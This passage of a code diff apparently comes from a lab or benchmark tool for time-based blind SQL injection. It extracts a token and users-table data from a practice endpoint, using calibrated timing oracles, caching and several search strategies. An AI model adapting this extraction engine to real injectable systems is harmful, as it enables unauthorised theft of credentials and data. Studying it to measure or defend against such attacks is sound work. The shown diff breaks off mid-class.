@@ -1,9 +1,28 @@
 #!/usr/bin/env python3
 import argparse
 import asyncio
+import copy
+import heapq
+import itertools
+import json
+import math
+import os
+import random
+import statistics
 import string
 import time
-from typing import Dict
+from dataclasses import dataclass, field, replace
+from typing import (
+    IO,
+    Awaitable,
+    Callable,
+    Dict,
+    List,
+    Optional,
+    Protocol,
+    Set,
+    Tuple,
+)
 
 import httpx
 
@@ -15,65 +34,793 @@ SLEEP_TIME = 3.0
 THRESHOLD = 2.5
 TIMEOUT = 10.0
 
-CHAR_MIN = 48  # '0'
-CHAR_MAX = 122  # 'z'
-
-TOKEN_LEN = 24
+REPORT_INTERVAL = 1.0  # seconds between scheduler progress lines
 CHARSET = string.ascii_letters + string.digits
 
+CHARSETS = {
+    "alpha": "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
+    "alnum": "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
+    "hex": "0123456789abcdef",
+    "ascii": "".join(chr(i) for i in range(32, 127)),  # printable ASCII
+    "symbols": "!@#$%^&*()-_=+[{]}\\|;:'\",<.>/?`~",
+    "base64": "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=",
+    "numeric": "0123456789",
+}
+
+# Calibration
+CALIBRATED_SLEEP = 0.4  # injected SLEEP() once the oracle is calibrated
+CALIBRATION_SAMPLES = 10  # slow probes per fit, each costs the injected sleep
+TAIL_SAMPLES = 100  # fast probes per fit, enough to show a tail of a few percent
+MAX_ERROR_RATE = 1e-4  # expected misreads per probe before sleep is doubled
+DRIFT_ALPHA = 0.05  # EWMA weight for online recalibration
+DRIFT_EVERY = 32  # readings between known-answer recalibration pairs
+MIN_STD = 0.005  # floor so a perfectly quiet link can't collapse a class
+
+# Faults
+MAX_RETRIES = 8  # resends of a probe answered 429 or dropped before it fails
+RETRY_BACKOFF = 0.1  # seconds before the first resend, doubled for each next one
+MAX_BACKOFF = 2.0
+
+# Simulation hooks, swapped by blind_sqli_sim.py to run on a virtual clock
+clock: Callable[[], float] = time.monotonic
+transport: Optional[httpx.BaseTransport] = None
+async_transport: Optional[httpx.AsyncBaseTransport] = None
+
+# Verification
+AMBIGUOUS_MARGIN = 0.25  # seconds either side of THRESHOLD that get re-queried
+AMBIGUITY_SIGMAS = 3.0  # the same band for a calibrated model, in stds
+MAX_VOTES = 7  # readings per ambiguous probe before the majority is taken
+VERIFY_ROUNDS = 2  # re-extractions of positions failing the '=' check
+
+# Duration oracle
+DURATION_OP = "-"  # SLEEP((ASCII(c) - value) * unit)
+DURATION_SIGMAS = 4.0  # baseline stds that fit inside DURATION_MARGIN of a step
+DURATION_MARGIN = 0.3  # max distance from a whole step before re-querying
+DURATION_MIN_UNIT = 0.02
+DURATION_RETRIES = 3  # readings per position before falling back to bisection
+
+
+# -----------------------
+# Timing model
+# -----------------------
+
+
+@dataclass(slots=True)
+class LatencyClass:
+    """Running mean/variance of one response-time class (fast or slow)."""
+
+    mean: float
+    var: float
+
+    @classmethod
+    def fit(cls, samples: List[float]) -> "LatencyClass":
+        return cls(statistics.fmean(samples), statistics.pvariance(samples))
+
+    @property
+    def std(self) -> float:
+        return max(math.sqrt(self.var), MIN_STD)
+
+    def update(self, x: float, alpha: float) -> None:
+        """EWMA update of mean and variance."""
+        delta = x - self.mean
+        self.mean += alpha * delta
+        self.var = (1 - alpha) * (self.var + alpha * delta * delta)
+
+
+@dataclass(slots=True)
+class TimingModel:
+    """Two-class latency model fitted by calibrate() and tracked online."""
+
+    sleep: float
+    fast: LatencyClass
+    slow: LatencyClass
+    alpha: float = DRIFT_ALPHA
+    readings: int = 0
+    misread: float = 0.0  # share of calibration readings on the wrong side
+
+    @property
+    def threshold(self) -> float:
+        # Point between the means that is the same number of stds from both
+        f, s = self.fast, self.slow
+        return (f.mean * s.std + s.mean * f.std) / (f.std + s.std)
+
+    @property
+    def error_rate(self) -> float:
+        """
+        Expected probability of misreading a single probe: the normal tail
+        past the threshold, or the misread share of the calibration readings
+        when that is higher. A lost packet waiting out a retransmission
+        makes real latency tails far heavier than a normal fit predicts.
+        """
+        z = (self.threshold - self.fast.mean) / self.fast.std
+        return max(0.5 * math.erfc(z / math.sqrt(2)), self.misread)
+
+    def margin(self, elapsed: float) -> float:
+        """Signed distance from the threshold in AMBIGUITY_SIGMAS stds."""
+        std = self.slow.std if elapsed > self.threshold else self.fast.std
+        return (elapsed - self.threshold) / (AMBIGUITY_SIGMAS * std)
+
+    def observe(self, elapsed: float, slow: bool) -> None:
+        """
+        Follow latency drift with a reading whose answer is known. Readings
+        the model classified itself are never fed back, or every misread
+        would pull the threshold towards the next one.
+        """
+        (self.slow if slow else self.fast).update(elapsed, self.alpha)
+
+    def drift_due(self) -> bool:
+        """Count a reading, True every DRIFT_EVERY of them."""
+        self.readings += 1
+        return self.readings % DRIFT_EVERY == 0
+
+    def describe(self) -> str:
+        return (
+            f"sleep={self.sleep:.2f}s "
+            f"fast={self.fast.mean * 1000:.0f}±{self.fast.std * 1000:.0f}ms "
+            f"slow={self.slow.mean * 1000:.0f}±{self.slow.std * 1000:.0f}ms "
+            f"threshold={self.threshold * 1000:.0f}ms "
+            f"error≈{self.error_rate:.1e}"
+        )
+
+
+@dataclass(slots=True)
+class DurationScale:
+    """Baseline latency and step unit of the duration oracle."""
+
+    baseline: LatencyClass = field(default_factory=lambda: LatencyClass(0.0, 0.0))
+    unit: float = DURATION_MIN_UNIT
+
 
 # -----------------------
 # Utilities
 # -----------------------
 
 
-def is_slow(elapsed: float) -> bool:
-    return elapsed > THRESHOLD
+def probe_margin(elapsed: float, model: Optional[TimingModel] = None) -> float:
+    """
+    Margin score of a reading in [-1, 1], positive for slow. Readings
+    inside the ambiguity band around the threshold score below 1.
+    """
+    if model is None:
+        margin = (elapsed - THRESHOLD) / AMBIGUOUS_MARGIN
+    else:
+        margin = model.margin(elapsed)
+    return max(-1.0, min(margin, 1.0))
+
+
+def charset_table(charset: str) -> List[int]:
+    """Sorted ordinals of the charset, the candidate list the searches index."""
+    return sorted({ord(c) for c in charset})
+
+
+def request_timeout(
+    model: Optional[TimingModel], early_abort: bool
+) -> httpx.Timeout | float:
+    """
+    With early abort the read timeout is the far edge of the ambiguity
+    band, so a "true" probe is abandoned as soon as it is unambiguously
+    slow and its connection is closed instead of waiting out the injected
+    sleep.
+    """
+    if not early_abort:
+        return TIMEOUT
+    if model is None:
+        return httpx.Timeout(TIMEOUT, read=THRESHOLD + AMBIGUOUS_MARGIN)
+    band = AMBIGUITY_SIGMAS * model.slow.std
+    return httpx.Timeout(TIMEOUT, read=model.threshold + band)
+
+
+@dataclass(frozen=True, slots=True)
+class Probe:
+    pos: int
+    op: str
+    value: int
+    endpoint: str = "vuln"
+    sleep: Optional[float] = None  # overrides the model's injected sleep
+    row: Optional[int] = None  # with column, targets a table cell
+    column: Optional[str] = None
+
+
+def known_probe(slow: bool) -> Probe:
+    """ASCII(c) > 0 is always true and ASCII(c) < 0 never: a labelled reading."""
+    return Probe(1, ">" if slow else "<", 0)
+
+
+def length_probe(value: int) -> Probe:
+    """IF(LENGTH(token) > value, SLEEP(n), 0) against /length."""
+    return Probe(0, ">", value, "length")
+
+
+def count_probe(value: int) -> Probe:
+    """IF((SELECT COUNT(*) FROM users) > value, SLEEP(n), 0) against /count."""
+    return Probe(0, ">", value, "count")
+
+
+def probe_body(probe: Probe, model: Optional[TimingModel]) -> Dict:
+    sleep = model.sleep if model is not None else SLEEP_TIME
+    if probe.sleep is not None:
+        sleep = probe.sleep
+    if probe.endpoint in ("length", "count"):
+        body = {"value": probe.value, "sleep": sleep}
+    else:
+        body = {"pos": probe.pos, "op": probe.op, "value": probe.value, "sleep": sleep}
+    if probe.row is not None:
+        body |= {"row": probe.row, "column": probe.column}
+    return body
 
 
 def status(msg: str) -> None:
     print(f"\r\033[2K{msg}", end="", flush=True)
 
 
+class Stopwatch:
+    """
+    Times a request from when its headers go out on an acquired
+    connection, through httpx's trace extension, so pool waits and
+    connection setup never count as server sleep. Transports that don't
+    trace are timed from the call.
+    """
+
+    def __init__(self):
+        self.start = clock()
+
+    def mark(self, name: str, info: Dict) -> None:
+        if name.endswith("send_request_headers.started"):
+            self.start = clock()
+
+    async def amark(self, name: str, info: Dict) -> None:
+        self.mark(name, info)
+
+    def elapsed(self) -> float:
+        return clock() - self.start
+
+
 # -----------------------
 # Oracle (sync + async)
 # -----------------------
 
 
+def backoff(attempt: int) -> float:
+    """
+    Seconds to wait before resend number `attempt` of a failed probe,
+    jittered so workers limited together don't all come back together.
+    """
+    delay = min(RETRY_BACKOFF * 2 ** (attempt - 1), MAX_BACKOFF)
+    return delay * random.uniform(0.5, 1.0)
+
+
+def timed_post(
+    client: httpx.Client,
+    base: str,
+    probe: Probe,
+    counter: Dict[str, int],
+    model: Optional[TimingModel],
+    timeout: httpx.Timeout | float,
+) -> Optional[float]:
+    """
+    Seconds the server took to answer `probe`, None once it failed
+    MAX_RETRIES resends too (counted in counter["errors"]). A 429 or a
+    dropped connection comes back fast without saying anything about the
+    condition, so it is resent after a backoff, never read as "false".
+    Read timeouts are left to the caller, which may be aborting early.
+    """
+    for attempt in range(MAX_RETRIES + 1):
+        if attempt:
+            time.sleep(backoff(attempt))
+        counter["requests"] += 1
+        watch = Stopwatch()
+        try:
+            response = client.post(
+                f"{base}/{probe.endpoint}",
+                json=probe_body(probe, model),
+                timeout=timeout,
+                extensions={"trace": watch.mark},
+            )
+        except httpx.ReadTimeout:
+            raise
+        except httpx.TransportError:
+            continue
+        elapsed = watch.elapsed()
+        if response.status_code == 200:
+            return elapsed
+        if response.status_code != 429:
+            break
+    counter["errors"] += 1
+    return None
+
+
+async def timed_post_async(
+    client: httpx.AsyncClient,
+    base: str,
+    probe: Probe,
+    counter: Dict[str, int],
+    model: Optional[TimingModel],
+    timeout: httpx.Timeout | float,
+) -> Optional[float]:
+    """timed_post() for an AsyncClient."""
+    for attempt in range(MAX_RETRIES + 1):
+        if attempt:
+            await asyncio.sleep(backoff(attempt))
+        counter["requests"] += 1
+        watch = Stopwatch()
+        try:
+            response = await client.post(
+                f"{base}/{probe.endpoint}",
+                json=probe_body(probe, model),
+                timeout=timeout,
+                extensions={"trace": watch.amark},
+            )
+        except httpx.ReadTimeout:
+            raise
+        except httpx.TransportError:
+            continue
+        elapsed = watch.elapsed()
+        if response.status_code == 200:
+            return elapsed
+        if response.status_code != 429:
+            break
+    counter["errors"] += 1
+    return None
+
+
+def track_drift(
+    client: httpx.Client,
+    base: str,
+    counter: Dict[str, int],
+    model: Optional[TimingModel],
+) -> None:
+    """Every DRIFT_EVERY readings, refresh both classes from a known pair."""
+    if model is None or not model.drift_due():
+        return
+    for slow in (False, True):
+        elapsed = timed_post(client, base, known_probe(slow), counter, model, TIMEOUT)
+        if elapsed is not None:
+            model.observe(elapsed, slow)
+
+
+async def track_drift_async(
+    client: httpx.AsyncClient,
+    base: str,
+    counter: Dict[str, int],
+    model: Optional[TimingModel],
+) -> None:
+    if model is None or not model.drift_due():
+        return
+    fast, slow = await asyncio.gather(
+        timed_post_async(client, base, known_probe(False), counter, model, TIMEOUT),
+        timed_post_async(client, base, known_probe(True), counter, model, TIMEOUT),
+    )
+    if fast is not None:
+        model.observe(fast, False)
+    if slow is not None:
+        model.observe(slow, True)
+
+
 def oracle(
     client: httpx.Client,
     base: str,
-    pos: int,
-    op: str,
-    value: int,
+    probe: Probe,
     counter: Dict[str, int],
+    model: Optional[TimingModel] = None,
+    early_abort: bool = False,
+    verify: bool = False,
 ) -> bool:
-    counter["requests"] += 1
-    start = time.monotonic()
-    client.post(
-        f"{base}/vuln",
-        json={"pos": pos, "op": op, "value": value},
-        timeout=TIMEOUT,
-    )
-    return is_slow(time.monotonic() - start)
+    """
+    With verify, a reading inside the ambiguity band is re-queried and the
+    margin scores are summed until they reach a full margin either way or
+    MAX_VOTES readings are in. Clear readings still cost one request.
+    A probe that failed all its resends adds no evidence: with verify it
+    is read again, without it the answer falls to false.
+    """
+
+    def read() -> float:
+        timeout = request_timeout(model, early_abort)
+        try:
+            elapsed = timed_post(client, base, probe, counter, model, timeout)
+        except httpx.ReadTimeout:
+            if not early_abort:
+                raise
+            # Past the band the answer is known, drop the sleeping request
+            elapsed = math.inf
+        if elapsed is None:
+            return 0.0
+        track_drift(client, base, counter, model)
+        return probe_margin(elapsed, model)
+
+    evidence, votes = read(), 1
+    while verify and abs(evidence) < 1 and votes < MAX_VOTES:
+        evidence += read()
+        votes += 1
+    return evidence > 0
 
 
 async def oracle_async(
     client: httpx.AsyncClient,
     base: str,
-    pos: int,
-    op: str,
-    value: int,
+    probe: Probe,
     counter: Dict[str, int],
+    model: Optional[TimingModel] = None,
+    early_abort: bool = False,
+    verify: bool = False,
 ) -> bool:
-    counter["requests"] += 1
-    start = time.monotonic()
-    await client.post(
-        f"{base}/vuln",
-        json={"pos": pos, "op": op, "value": value},
-        timeout=TIMEOUT,
+    """oracle() for an AsyncClient, voting the same way with verify."""
+
+    async def read() -> float:
+        timeout = request_timeout(model, early_abort)
+        try:
+            elapsed = await timed_post_async(
+                client, base, probe, counter, model, timeout
+            )
+        except httpx.ReadTimeout:
+            if not early_abort:
+                raise
+            # Past the band the answer is known, drop the sleeping request
+            elapsed = math.inf
+        if elapsed is None:
+            return 0.0
+        await track_drift_async(client, base, counter, model)
+        return probe_margin(elapsed, model)
+
+    evidence, votes = await read(), 1
+    while verify and abs(evidence) < 1 and votes < MAX_VOTES:
+        evidence += await read()
+        votes += 1
+    return evidence > 0
+
+
+async def oracle_duration_async(
+    client: httpx.AsyncClient,
+    base: str,
+    probe: Probe,
+    counter: Dict[str, int],
+) -> Optional[float]:
+    """Elapsed time of a duration probe, decoded by the caller."""
+    timeout = TIMEOUT + (0x7F - probe.value) * (probe.sleep or 0)
+    return await timed_post_async(client, base, probe, counter, None, timeout)
+
+
+# -----------------------
+# Oracle cache
+# -----------------------
+
+CacheKey = Tuple[str, int, str, int]  # (endpoint[@row.column], pos, op, value)
+
+
+class OracleCache:
+    """
+    Answers keyed by (endpoint, pos, op, value) plus finished positions.
+
+    Concurrent identical async probes share one request. With a path every
+    answer and finished position is appended to a checkpoint, one short
+    line each, and replayed on the next start so a killed run resumes
+    where it stopped:
+
+        a <endpoint> <pos> <op> <value> <0|1>   answered probe
+        f <pos> <ord>                           finished position
+        x <pos>                                 position forgotten
+
+    Duration probes are never cached, their readings are meant to differ.
+    """
+
+    def __init__(self, path: Optional[str] = None):
+        self.answers: Dict[CacheKey, bool] = {}
+        self.found: Dict[int, str] = {}
+        self.pending: Dict[CacheKey, asyncio.Task] = {}
+        self.hits = 0
+        self.file: Optional[IO[str]] = None
+        if path is not None:
+            if os.path.exists(path):
+                self.load(path)
+            self.file = open(path, "a")
+
+    @staticmethod
+    def key(probe: Probe) -> CacheKey:
+        endpoint = probe.endpoint
+        if probe.row is not None:
+            endpoint = f"{endpoint}@{probe.row}.{probe.column}"
+        return (endpoint, probe.pos, probe.op, probe.value)
+
+    def load(self, path: str) -> None:
+        """Replay a checkpoint, skipping blank or malformed lines."""
+        skipped = 0
+        line = ""
+        with open(path) as f:
+            for line in f:
+                try:
+                    self.replay(line)
+                except (ValueError, IndexError, OverflowError):
+                    skipped += 1
+        if line and not line.endswith("\n"):
+            # A run killed mid-write; start the next record on its own line
+            with open(path, "a") as f:
+                f.write("\n")
+        print(
+            f"[checkpoint] resumed {len(self.answers)} answers, "
+            f"{len(self.found)} positions from {path}"
+            + (f", skipped {skipped} malformed lines" if skipped else "")
+        )
+
+    def replay(self, line: str) -> None:
+        kind, *fields = line.split()
+        if kind == "a":
+            endpoint, pos, op, value, answer = fields
+            if answer not in ("0", "1"):
+                raise ValueError(f"bad answer {answer!r}")
+            self.answers[(endpoint, int(pos), op, int(value))] = answer == "1"
+        elif kind == "f":
+            pos, code = fields
+            self.found[int(pos)] = chr(int(code))
+        elif kind == "x":
+            (pos,) = fields
+            self.drop(int(pos))
+        else:
+            raise ValueError(f"unknown record {kind!r}")
+
+    def write(self, line: str) -> None:
+        if self.file is not None:
+            self.file.write(line + "\n")
+            self.file.flush()
+
+    def store(self, key: CacheKey, answer: bool) -> None:
+        self.answers[key] = answer
+        self.write(f"a {' '.join(map(str, key))} {int(answer)}")
+
+    def finish(self, pos: int, c: str) -> None:
+        self.found[pos] = c
+        self.write(f"f {pos} {ord(c)}")
+
+    def drop(self, pos: int) -> None:
+        self.found.pop(pos, None)
+        for key in [k for k in self.answers if k[0] == "vuln" and k[1] == pos]:
+            del self.answers[key]
+
+    def forget(self, pos: int) -> None:
+        """Discard a position's answers, e.g. after it failed verification."""
+        self.drop(pos)
+        self.write(f"x {pos}")
+
+    def wrap(self, ask: Callable[[Probe], bool]) -> Callable[[Probe], bool]:
+        def cached(probe: Probe) -> bool:
+            if probe.op == DURATION_OP:
+                return ask(probe)
+            key = self.key(probe)
+            if key in self.answers:
+                self.hits += 1
+                return self.answers[key]
+            answer = ask(probe)
+            self.store(key, answer)
+            return answer
+
+        return cached
+
+    def wrap_async(
+        self, ask: Callable[[Probe], Awaitable[bool | float]]
+    ) -> Callable[[Probe], Awaitable[bool | float]]:
+        async def cached(probe: Probe) -> bool | float:
+            if probe.op == DURATION_OP:
+                return await ask(probe)
+            key = self.key(probe)
+            if key in self.answers:
+                self.hits += 1
+                return self.answers[key]
+            if key in self.pending:
+                self.hits += 1
+                return await asyncio.shield(self.pending[key])
+
+            task = asyncio.create_task(ask(probe))
+            # Retrieve a failure even if every waiter was cancelled first
+            task.add_done_callback(lambda t: t.cancelled() or t.exception())
+            self.pending[key] = task
+            try:
+                answer = await asyncio.shield(task)
+            finally:
+                del self.pending[key]
+            self.store(key, answer)
+            return answer
+
+        return cached
+
+    def close(self) -> None:
+        if self.file is not None:
+            self.file.close()
+
+
+# -----------------------
+# Calibration
+# -----------------------
+
+
+def calibration_plan(slow: int) -> List[bool]:
+    """
+    Labels (True for slow) of one calibration round: `slow` slow probes
+    spread evenly among max(slow, TAIL_SAMPLES) fast ones. A fast probe
+    costs one round trip, so there are enough of them to show a latency
+    tail of a few percent that ten samples would miss.
+    """
+    fast = max(slow, TAIL_SAMPLES)
+    plan = []
+    for i in range(fast):
+        plan.append(False)
+        if i * slow // fast != (i + 1) * slow // fast:
+            plan.append(True)
+    return plan
+
+
+def fit_model(
+    sleep: float, plan: List[bool], readings: List[Optional[float]]
+) -> TimingModel:
+    """
+    Fit both classes from the readings of a calibration round, skipping
+    failed probes, and record the share the fitted threshold misreads.
+    """
+    fast = [x for x, slow in zip(readings, plan) if not slow and x is not None]
+    slow = [x for x, slow in zip(readings, plan) if slow and x is not None]
+    if len(fast) < 2 or len(slow) < 2:
+        raise RuntimeError("calibration probes keep failing, is the target up?")
+
+    model = TimingModel(sleep, LatencyClass.fit(fast), LatencyClass.fit(slow))
+    t = model.threshold
+    wrong = sum(x > t for x in fast) + sum(x <= t for x in slow)
+    model.misread = wrong / (len(fast) + len(slow))
+    return model
+
+
+def calibrate(
+    base: str,
+    sleep: float = CALIBRATED_SLEEP,
+    samples: int = CALIBRATION_SAMPLES,
+) -> TimingModel:
+    """
+    Fit fast/slow latency classes from probes with known answers.
+
+    ASCII(c) < 0 is never true and ASCII(c) > 0 always is, so position 1
+    gives labelled samples for both classes: `samples` slow ones among
+    calibration_plan()'s fast ones. The injected sleep is doubled (up to
+    SLEEP_TIME) until the expected error rate is acceptable.
+    """
+
+    counter = {"requests": 0, "errors": 0}
+
+    def sample(client: httpx.Client, slow: bool) -> Optional[float]:
+        probe = replace(known_probe(slow), sleep=sleep)
+        return timed_post(client, base, probe, counter, None, TIMEOUT)
+
+    with httpx.Client(transport=transport) as client:
+        sample(client, False)  # warm up the connection
+
+        plan = calibration_plan(samples)
+        while True:
+            readings = [sample(client, slow) for slow in plan]
+            model = fit_model(sleep, plan, readings)
+            print(f"[calibrate] {model.describe()}")
+
+            if model.error_rate <= MAX_ERROR_RATE or sleep >= SLEEP_TIME:
+                return model
+            sleep = min(sleep * 2, SLEEP_TIME)
+
+
+async def calibrate_async(
+    client: httpx.AsyncClient,
+    base: str,
+    model: TimingModel,
+    concurrency: int,
+    counter: Dict[str, int],
+) -> None:
+    """
+    Refit the model's classes on the client an async run uses, at its
+    concurrency: calibrate() times one probe at a time on a warm
+    connection, which a hundred probes in flight are not. A first wave
+    of fast probes opens the pool's connections, then labelled probes of
+    both classes are timed interleaved, `concurrency` at a time, doubling
+    the sleep as calibrate() does while the error rate is too high.
+    """
+    slots = asyncio.Semaphore(concurrency)
+
+    async def sample(slow: bool) -> Optional[float]:
+        async with slots:
+            probe = known_probe(slow)
+            return await timed_post_async(client, base, probe, counter, model, TIMEOUT)
+
+    await asyncio.gather(*(sample(False) for _ in range(concurrency)))
+    plan = calibration_plan(max(CALIBRATION_SAMPLES, concurrency))
+    while True:
+        readings = await asyncio.gather(*(sample(slow) for slow in plan))
+        fitted = fit_model(model.sleep, plan, readings)
+        model.fast, model.slow, model.misread = fitted.fast, fitted.slow, fitted.misread
+        print(f"[calibrate] x{concurrency} {model.describe()}")
+
+        if model.error_rate <= MAX_ERROR_RATE or model.sleep >= SLEEP_TIME:
+            return
+        model.sleep = min(model.sleep * 2, SLEEP_TIME)
+
+
+async def calibrate_duration_async(
+    client: httpx.AsyncClient,
+    base: str,
+    scale: DurationScale,
+    concurrency: int,
+    counter: Dict[str, int],
+) -> None:
+    """
+    Fit the duration oracle's baseline and unit on the client a run uses,
+    at its concurrency, as calibrate_async() does for the binary oracle.
+
+    A duration probe against a value above every character never sleeps,
+    so it samples the baseline. The unit is sized so DURATION_MARGIN of a
+    step spans DURATION_SIGMAS baseline stds.
+    """
+    slots = asyncio.Semaphore(concurrency)
+    probe = Probe(1, DURATION_OP, 0x7F, sleep=0)
+
+    async def sample() -> Optional[float]:
+        async with slots:
+            return await timed_post_async(client, base, probe, counter, None, TIMEOUT)
+
+    await asyncio.gather(*(sample() for _ in range(concurrency)))
+    n = max(CALIBRATION_SAMPLES, concurrency)
+    readings = await asyncio.gather(*(sample() for _ in range(n)))
+    readings = [x for x in readings if x is not None]
+    if len(readings) < 2:
+        raise RuntimeError("calibration probes keep failing, is the target up?")
+
+    baseline = LatencyClass.fit(readings)
+    unit = max(DURATION_SIGMAS * baseline.std / DURATION_MARGIN, DURATION_MIN_UNIT)
+    scale.baseline, scale.unit = baseline, unit
+    print(
+        f"[calibrate] x{concurrency} duration baseline={baseline.mean * 1000:.0f}"
+        f"±{baseline.std * 1000:.0f}ms unit={unit * 1000:.0f}ms"
     )
-    return is_slow(time.monotonic() - start)
+
+
+# -----------------------
+# Strategy registry
+# -----------------------
+
+
+@dataclass(slots=True)
+class RunOptions:
+    """Everything a registered strategy may use, defaults match the CLI."""
+
+    concurrency: int = 20
+    model: Optional[TimingModel] = None
+    early_abort: bool = False
+    charset: str = CHARSET
+    length: Optional[int] = None
+    verify: bool = False
+    fanout: int = 4
+    cache: Optional[OracleCache] = None
+
+
+@dataclass(frozen=True, slots=True)
+class Strategy:
+    run: Callable[[str, RunOptions], Awaitable[Dict]]
+    concurrent: bool = True  # whether RunOptions.concurrency matters
+
+
+STRATEGIES: Dict[str, Strategy] = {}
+
+
+def strategy(name: str, concurrent: bool = True):
+    """Register an extraction under a name for main(), the sim and the bench."""
+
+    def register(run: Callable[[str, RunOptions], Awaitable[Dict]]):
+        STRATEGIES[name] = Strategy(run, concurrent)
+        return run
+
+    return register
+
+
+def expand(names: List[str], opts: RunOptions, fanouts: List[int]):
+    """
+    (label, strategy, options) per run, one kary run per fan-out. Each run
+    gets its own copy of the calibrated model, which the async runs refit
+    at their own concurrency and every run tracks drift on.
+    """
+    for name in names:
+        for k in fanouts if name == "kary" else [opts.fanout]:
+            label = f"kary-{k}" if name == "kary" else name
+            model = copy.deepcopy(opts.model)
+            yield label, STRATEGIES[name], replace(opts, model=model, fanout=k)
 
 
 # -----------------------
@@ -81,15 +828,31 @@ async def oracle_async(
 # -----------------------
 
 
-def extract_linear(base: str) -> Dict:
-    counter = {"requests": 0}
+def extract_linear(base: str, opts: RunOptions) -> Dict:
+    counter = {"requests": 0, "errors": 0}
     token = []
+    length = opts.length
+    cache = opts.cache if opts.cache is not None else OracleCache()
+
+    with httpx.Client(transport=transport) as client:
+
+        @cache.wrap
+        def ask(probe: Probe) -> bool:
+            return oracle(
+                client, base, probe, counter, opts.model, opts.early_abort, opts.verify
+            )
+
+        if length is None:
+            length = discover_length(ask)
 
-    with httpx.Client() as client:
-        for pos in range(1, TOKEN_LEN + 1):
-            for c in CHARSET:
-                if oracle(client, base, pos, "=", ord(c), counter):
+        for pos in range(1, length + 1):
+            if pos in cache.found:
+                token.append(cache.found[pos])
+                continue
+            for c in opts.charset:
+                if ask(Probe(pos, "=", ord(c))):
                     token.append(c)
+                    cache.finish(pos, c)
                     status(f"[linear] pos={pos:02d} → {''.join(token)}")
                     break
 
@@ -97,72 +860,727 @@ def extract_linear(base: str) -> Dict:
     return {
         "token": "".join(token),
         "requests": counter["requests"],
+        "errors": counter["errors"],
     }
 
 
+@strategy("linear", concurrent=False)
+async def run_linear(base: str, opts: RunOptions) -> Dict:
+    return extract_linear(base, opts)
+
+
+# -----------------------
+# Searches
+# -----------------------
+
+
+class Search(Protocol):
+    """Per-position state machine that turns oracle answers into a character."""
+
+    pos: int
+
+    @property
+    def done(self) -> bool: ...
+
+    @property
+    def result(self) -> str: ...
+
+    def remaining(self) -> int: ...
+
+    def next_probes(self) -> List[Probe]: ...
+
+    def feed(self, probe: Probe, answer: bool) -> None: ...
+
+    # Duration probes (op DURATION_OP) are answered with the elapsed seconds,
+    # or None when the probe failed
+
+
+class BisectSearch:
+    """
+    Binary search over candidate indices, not ordinals: ceil(log2(n))
+    probes for an n-character table, and gaps in the charset cost nothing.
+    """
+
+    def __init__(self, pos: int, table: List[int]):
+        self.pos = pos
+        self.table = table
+        self.lo, self.hi = 0, len(table) - 1
+        self.waiting = False
+
+    @property
+    def done(self) -> bool:
+        return self.lo >= self.hi
+
+    @property
+    def result(self) -> str:
+        return chr(self.table[self.lo])
+
+    def remaining(self) -> int:
+        return math.ceil(math.log2(self.hi - self.lo + 1))
+
+    def next_probes(self) -> List[Probe]:
+        if self.done or self.waiting:
+            return []
+        self.waiting = True
+        mid = (self.lo + self.hi) // 2
+        return [Probe(self.pos, ">", self.table[mid])]
+
+    def feed(self, probe: Probe, answer: bool) -> None:
+        self.waiting = False
+        mid = (self.lo + self.hi) // 2
+        if answer:
+            self.lo = mid + 1
+        else:
+            self.hi = mid
+
+
+class BitSearch:
+    """
+    Ask "is bit k of ASCII(c) set?" for every bit at once, so a position
+    costs one round trip instead of a chain of dependent bisection steps.
+    Bits that are equal across the whole charset are never probed.
+    """
+
+    def __init__(self, pos: int, table: List[int]):
+        varying = 0
+        for o in table:
+            varying |= o ^ table[0]
+
+        self.pos = pos
+        self.value = table[0] & ~varying
+        self.pending = {1 << k for k in range(8) if varying & (1 << k)}
+        self.issued = False
+
+    @property
+    def done(self) -> bool:
+        return not self.pending
+
+    @property
+    def result(self) -> str:
+        return chr(self.value)
+
+    def remaining(self) -> int:
+        return len(self.pending)
+
+    def next_probes(self) -> List[Probe]:
+        if self.issued:
+            return []
+        self.issued = True
+        return [Probe(self.pos, "&", bit) for bit in sorted(self.pending)]
+
+    def feed(self, probe: Probe, answer: bool) -> None:
+        self.pending.discard(probe.value)
+        if answer:
+            self.value |= probe.value
+
+
+class KarySearch:
+    """
+    k-ary search: each round fires k-1 '>' pivots at once, splitting the
+    remaining candidates into k even parts. Dependent rounds drop from
+    log2(n) to logk(n) at the cost of more probes per round.
+    """
+
+    def __init__(self, pos: int, table: List[int], fanout: int):
+        self.pos = pos
+        self.table = table
+        self.fanout = max(2, fanout)
+        self.lo, self.hi = 0, len(table) - 1
+        self.answers: Dict[int, bool] = {}  # pivot index -> answer
+        self.pivots: List[int] = []
+
+    @property
+    def done(self) -> bool:
+        return self.lo >= self.hi
+
+    @property
+    def result(self) -> str:
+        return chr(self.table[self.lo])
+
+    def remaining(self) -> int:
+        return math.ceil(math.log(self.hi - self.lo + 1, self.fanout))
+
+    def next_probes(self) -> List[Probe]:
+        if self.done or self.pivots:
+            return []
+        n = self.hi - self.lo + 1
+        k = min(self.fanout, n)
+        self.pivots = sorted({self.lo + (j * n) // k - 1 for j in range(1, k)})
+        return [Probe(self.pos, ">", self.table[i]) for i in self.pivots]
+
+    def feed(self, probe: Probe, answer: bool) -> None:
+        self.answers[self.table.index(probe.value)] = answer
+        if len(self.answers) < len(self.pivots):
+            return
+
+        # c is above every pivot that answered true and at or below the rest
+        for i in self.pivots:
+            if self.answers[i]:
+                self.lo = i + 1
+            else:
+                self.hi = i
+                break
+        self.answers.clear()
+        self.pivots = []
+
+
+class DurationSearch:
+    """
+    One duration probe makes the server sleep (ASCII(c) - table[0]) * unit,
+    so the character is read off the elapsed time in a single request.
+    Readings between steps or outside the charset are re-queried and
+    averaged, and after DURATION_RETRIES of them the position falls back
+    to bisection.
+    """
+
+    def __init__(self, pos: int, table: List[int], scale: DurationScale):
+        self.pos = pos
+        self.table = table
+        self.scale = scale
+        self.samples: List[float] = []
+        self.attempts = 0
+        self.value: Optional[int] = None
+        self.fallback: Optional[BisectSearch] = None
+        self.waiting = False
+
+    @property
+    def done(self) -> bool:
+        if self.fallback is not None:
+            return self.fallback.done
+        return self.value is not None
+
+    @property
+    def result(self) -> str:
+        if self.fallback is not None:
+            return self.fallback.result
+        return chr(self.value)
+
+    def remaining(self) -> int:
+        if self.fallback is not None:
+            return self.fallback.remaining()
+        return 1
+
